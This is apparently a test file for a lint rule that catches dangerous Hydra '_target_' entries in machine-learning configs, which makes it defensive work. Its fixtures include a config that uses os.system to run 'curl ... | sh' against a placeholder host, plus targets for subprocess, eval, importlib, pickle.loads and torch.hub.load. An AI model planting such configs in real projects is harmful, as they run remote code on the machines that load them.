import rule from '../../../src/rules/pipeline/hydra-target.js';
import { testRule } from '../../helpers/rule-tester.js';

testRule(rule, {
  valid: [
    {
      name: 'targets in well-known libraries and the project\'s own package',
      files: {
        'conf/model/resnet.yaml': 'model:\n  _target_: torchvision.models.resnet50\n  weights: null\noptimizer:\n  _target_: torch.optim.AdamW\n  _partial_: true\n  lr: 0.001\n',
        'conf/data.yaml': 'datamodule:\n  _target_: my_project.data.CifarModule\n  batch_size: 64\n',
        'my_project/__init__.py': '',
      },
    },
    { name: 'a project package under src/', files: { 'src/trainer/__init__.py': '', 'conf/t.yaml': 'trainer:\n  _target_: trainer.loops.Fit\n' } },
    { name: 'a library the policy allows', files: { 'conf/x.yaml': 'm:\n  _target_: acme_models.Net\n' }, options: { allow: ['acme_models'] } },
    { name: 'a package declared in the options', files: { 'conf/x.yaml': 'm:\n  _target_: corp.nets.Net\n' }, options: { packages: ['corp'] } },
    { name: 'a config that only mentions _target_ in a comment', files: { 'conf/a.yaml': '# use _target_: os.system to break things\nlr: 0.1\n' } },
    { name: 'a workflow is not a Hydra config', files: { '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "_target_: os.system"\n' } },
  ],
  invalid: [
    {
      name: 'a target that runs a command is critical',
      files: { 'conf/callbacks/setup.yaml': 'callbacks:\n  setup:\n    _target_: os.system\n    _args_:\n      - curl -s https://example.invalid/x.sh | sh\n' },
      errors: [{ path: 'conf/callbacks/setup.yaml', line: 3, column: 15, severity: 'critical', message: '_target_ os.system makes hydra.utils.instantiate run a command, evaluate code, import by name or unpickle: point it at a class or function of the project or of a reviewed library.' }],
    },
    {
      name: 'subprocess, eval, importlib and pickle targets, partial and not called',
      files: { 'conf/x.yaml': 'a:\n  _target_: subprocess.run\n  _partial_: true\nb:\n  _target_: builtins.eval\nc:\n  - _target_: importlib.import_module\n    _call_: false\nd: {_target_: pickle.loads}\n' },
      errors: [
        { line: 2, severity: 'critical', message: /^_target_ subprocess\.run \(as a partial, called later\) makes/ },
        { line: 5, severity: 'critical', message: /^_target_ builtins\.eval makes/ },
        { line: 7, column: 15, severity: 'critical', message: /^_target_ importlib\.import_module \(imported, not called\) makes/ },
        { line: 9, severity: 'critical', message: /^_target_ pickle\.loads makes/ },
      ],
    },
    {
      name: 'a module outside the project and the allowed libraries',
      files: { 'conf/model.yaml': 'model:\n  _target_: totally_legit_models.Net\n  depth: 50\n' },
      errors: [{ line: 2, column: 13, severity: 'medium', message: "_target_ totally_legit_models.Net imports module totally_legit_models, which is neither one of the project's packages nor an allowed library: check what it runs, then add it to the rule's allow list, or point _target_ at reviewed code." }],
    },
    {
      name: 'a target computed by interpolation',
      files: { 'conf/m.yaml': 'cls: torch.nn.Linear\nlayer:\n  _target_: ${cls}\n' },
      errors: [{ line: 3, message: /^_target_ is computed from an interpolation \(\$\{cls\}\)/ }],
    },
    {
      name: 'a denied callable from the policy and a JSON config',
      files: { 'conf/x.json': '{"m": {"_target_": "torch.hub.load"}}' },
      options: { deny: ['torch.hub.*'] },
      errors: [{ line: 1, column: 20, severity: 'critical', message: /^_target_ torch\.hub\.load makes/ }],
    },
    {
      name: 'an invalid YAML config with targets',
      files: { 'conf/bad.yaml': 'a:\n  _target_: x\n b: [\n' },
      errors: [{ message: /^This config has _target_ keys but is not valid YAML/ }],
    },
  ],
});
